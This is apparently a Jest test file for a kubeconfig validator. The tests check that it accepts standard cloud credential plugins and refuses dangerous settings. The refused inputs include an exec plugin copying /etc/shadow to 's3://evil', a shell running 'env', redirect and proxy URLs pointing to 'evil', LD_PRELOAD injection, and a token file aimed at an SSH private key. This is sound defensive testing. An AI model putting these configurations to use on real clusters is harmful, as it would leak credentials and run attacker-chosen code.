import { describe, expect, test } from '@jest/globals'
import { checkKubeconfig } from './kubeconfig'

interface Wish {
  readonly cluster?: object
  readonly user?: object
  readonly contexts?: readonly string[]
}

const config = ({ cluster = {}, user = { token: 't0ken' }, contexts = ['prod'] }: Wish = {}) => ({
  'current-context': contexts[0],
  contexts: contexts.map((name) => ({ name, context: { cluster: 'c', user: 'u', namespace: 'x' } })),
  clusters: [{ name: 'c', cluster: { server: 'https://k8s.example.com', ...cluster } }],
  users: [{ name: 'u', user }],
})
const beside = (path: string) => (path === 'ca.crt' ? '/home/kube/ca.crt' : undefined)
const problems = (wish: Wish, context?: string) => {
  const result = checkKubeconfig(config(wish), context, beside)
  return 'ok' in result ? [] : result.problems
}

describe('kubeconfig', () => {
  test('keeps what was checked, of one context, and nothing else', () => {
    const result = checkKubeconfig(
      config({ cluster: { 'certificate-authority': 'ca.crt', extensions: [{ name: 'x' }] } }),
      undefined,
      beside,
    )
    if (!('ok' in result)) throw new Error('refused')
    expect(result.ok.secrets).toEqual(['t0ken'])
    expect(JSON.parse(result.ok.text)).toMatchObject({
      'current-context': 'prod',
      contexts: [{ name: 'prod', context: { cluster: 'cluster', user: 'user' } }],
      clusters: [{ cluster: { server: 'https://k8s.example.com', 'certificate-authority': '/home/kube/ca.crt' } }],
    })
    expect(result.ok.text).not.toContain('extensions')
    expect(result.ok.text).not.toContain('namespace')
  })

  test.each<[string, Wish, RegExp]>([
    ['any program', { user: { exec: { command: '/bin/sh', args: ['-c', 'env'] } } }, /exec starts a program/],
    ['a known plugin by another path', { user: { exec: { command: './aws' } } }, /exec starts a program/],
    [
      'a plugin for something else',
      { user: { exec: { command: 'aws', args: ['s3', 'cp', '/etc/shadow', 's3://evil'] } } },
      /something else than a token/,
    ],
    [
      'a plugin for something else, between options',
      { user: { exec: { command: 'aws', args: ['--debug', 'configure', '--debug', 'set', 'eks', 'get-token'] } } },
      /something else than a token/,
    ],
    [
      'a plugin asked elsewhere',
      { user: { exec: { command: 'aws', args: ['eks', 'get-token', '--endpoint-url=http://evil'] } } },
      /something else than a token/,
    ],
    [
      'a plugin that is told to do more',
      { user: { exec: { command: 'kubelogin', args: ['remove-tokens'] } } },
      /something else than a token/,
    ],
    [
      'a plugin with a library of its own',
      {
        user: {
          exec: { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'LD_PRELOAD', value: '/work/x.so' }] },
        },
      },
      /exec sets LD_PRELOAD/,
    ],
    [
      'a plugin with a configuration of its own',
      {
        user: {
          exec: { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'AWS_CONFIG_FILE', value: '/work/x' }] },
        },
      },
      /exec sets AWS_CONFIG_FILE/,
    ],
    [
      'a plugin with an interpreter of its own',
      { user: { exec: { command: 'gke-gcloud-auth-plugin', env: [{ name: 'CLOUDSDK_PYTHON', value: '/work/x' }] } } },
      /exec sets CLOUDSDK_PYTHON/,
    ],
    ['an inherited name', { user: { exec: { command: 'constructor' } } }, /exec starts a program/],
    ['auth-provider', { user: { 'auth-provider': { name: 'oidc' } } }, /auth-provider/],
    ['a proxy', { cluster: { 'proxy-url': 'http://evil' } }, /proxy-url/],
    ['no verification', { cluster: { 'insecure-skip-tls-verify': true } }, /insecure-skip-tls-verify/],
    ['plain http', { cluster: { server: 'http://k8s.example.com' } }, /plain http/],
    ['a password in the address', { cluster: { server: 'https://a:b@k8s.example.com' } }, /https:\/\/ address/],
    ['a foreign token file', { user: { tokenFile: '/root/.ssh/id_rsa' } }, /tokenFile/],
    ['a foreign certificate', { cluster: { 'certificate-authority': '../ca.crt' } }, /certificate-authority/],
    ['several contexts', { contexts: ['a', 'b'] }, /name one with kube-context/],
    ['no context', { contexts: [] }, /no context/],
  ])('refuses %s', (_, wish, want) => expect(problems(wish).join('\n')).toMatch(want))

  test('a secret in the environment of a plugin is hidden', () => {
    const exec = { command: 'aws', args: ['eks', 'get-token'], env: [{ name: 'AWS_SECRET_ACCESS_KEY', value: 'k3y' }] }
    expect(checkKubeconfig(config({ user: { exec } }), undefined, beside)).toMatchObject({ ok: { secrets: ['k3y'] } })
  })

  test('names every problem at once', () => {
    expect(
      problems({
        cluster: { 'proxy-url': 'x', server: 'ftp://x' },
        user: { exec: { command: 'sh' }, tokenFile: '/x' },
      }),
    ).toHaveLength(4)
  })

  test.each([
    ['a named context of several', { contexts: ['a', 'b'] }, 'b'],
    ['a cloud plugin', { user: { exec: { command: 'aws', args: ['eks', 'get-token'] } } }, undefined],
    [
      'a cloud plugin as aws eks update-kubeconfig writes it',
      {
        user: {
          exec: {
            command: 'aws',
            args: ['--region', 'eu-west-1', 'eks', 'get-token', '--cluster-name', 'shop', '--output', 'json'],
            env: [{ name: 'AWS_PROFILE', value: 'prod' }],
          },
        },
      },
      undefined,
    ],
    [
      'as gcloud writes it',
      { user: { exec: { command: 'gke-gcloud-auth-plugin', provideClusterInfo: true } } },
      undefined,
    ],
    [
      'as az and kubelogin write it',
      {
        user: {
          exec: {
            command: 'kubelogin',
            args: ['get-token', '--login', 'spn', '--server-id', 'x'],
            env: [{ name: 'AAD_LOGIN_METHOD', value: 'spn' }],
          },
        },
      },
      undefined,
    ],
    [
      'this machine without verification',
      { cluster: { server: 'https://127.0.0.1:6443', 'insecure-skip-tls-verify': true } },
      undefined,
    ],
  ] as const)('takes %s', (_, wish, context) => expect(problems(wish, context)).toEqual([]))

  test('a host that only looks like this machine is another one', () => {
    expect(
      problems({ cluster: { server: 'https://127.0.0.1.example.com', 'insecure-skip-tls-verify': true } }),
    ).toHaveLength(1)
  })

  test.each([[null], ['x'], [[]], [{ contexts: 'x' }]])('something else: %p', (document) => {
    expect(checkKubeconfig(document, undefined, beside)).toHaveProperty('problems')
  })
})
